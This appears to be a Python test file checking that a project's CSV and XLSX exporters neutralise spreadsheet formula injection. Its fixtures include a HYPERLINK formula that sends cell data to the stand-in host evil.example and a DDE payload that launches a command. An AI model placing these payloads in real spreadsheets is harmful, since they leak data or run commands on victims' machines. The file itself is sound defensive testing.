"""Exports carry no live formula: text beginning with = + - @ is neutralised in CSV (OWASP's
rule: a leading quote) and written as a string cell in XLSX, for every writer."""

import csv
import io

from openpyxl import load_workbook

from sarap.analysis.tables import Table
from sarap.core import spreadsheet
from sarap.events import importing, records, store
from sarap.events.exporters import native, table_a1

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _event(s, summary=EVIL):
    record, problems = records.validate({"origin": "x1", "date": {"start": "2021-03-04"}, "category": "plot",
                                         "action_type": "physical", "summary": summary,
                                         "notes": "+cmd|' /C calc'!A0", "agency": "atc"})
    assert not problems
    return store.create(s, record, author="t")


def _no_formula_xlsx(path):
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    return book


def test_the_helper_follows_owasp_and_keeps_numbers():
    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet.neutralise(bad) == "'" + bad
        assert spreadsheet.restore(spreadsheet.neutralise(bad)) == bad
    assert spreadsheet.neutralise("-3") == "-3" and spreadsheet.neutralise(-3) == -3
    assert spreadsheet.neutralise("Астана") == "Астана"


def test_event_csv_and_xlsx_have_no_live_formula_and_import_back_unchanged(db, tmp_path):
    with db.session() as s:
        event = _event(s)
        csv_path, xlsx_path, a1 = tmp_path / "e.csv", tmp_path / "e.xlsx", tmp_path / "a1.xlsx"
        native.write_csv([event], csv_path)
        native.write_xlsx([event], xlsx_path)
        table_a1.write_xlsx(table_a1.coded_table([event]), a1)
    cells = [c for row in csv.reader(csv_path.open(encoding="utf-8")) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    book = _no_formula_xlsx(xlsx_path)
    assert EVIL in [c.value for row in book.active.iter_rows() for c in row]
    _no_formula_xlsx(a1)
    report = importing.run_import(db, csv_path, dataset="back", author="t")
    assert not report.failed
    with db.session() as s:
        again = store.find(s, store.EventFilter(dataset="back"))
        assert [e.summary for e in again] == [EVIL]


def test_analysis_tables_neutralise_in_csv_and_xlsx(tmp_path):
    table = Table("t", ["name", "n"], [[EVIL, 3], ["-2", -2]])
    assert "'=HYPERLINK" in table.csv_text() and "\n-2,-2" in table.csv_text().replace("\r", "")
    table.to_xlsx(tmp_path / "t.xlsx")
    _no_formula_xlsx(tmp_path / "t.xlsx")


def test_dict_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = spreadsheet.dict_writer(out, ["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "@x", "b": 1})
    assert out.getvalue().splitlines() == ["a,b", "'@x,1"]


def test_monitoring_exports_neutralise_text_from_outside(tmp_path):
    from sarap.monitor import export

    row = dict.fromkeys(export.COLUMNS, "") | {"text": EVIL, "author": "@handle", "title": "-x-"}
    export.write(tmp_path / "m.csv", [row], "csv")
    cells = next(iter(csv.DictReader((tmp_path / "m.csv").open(encoding="utf-8"))))
    assert (cells["text"], cells["author"], cells["title"]) == ("'" + EVIL, "'@handle", "'-x-")

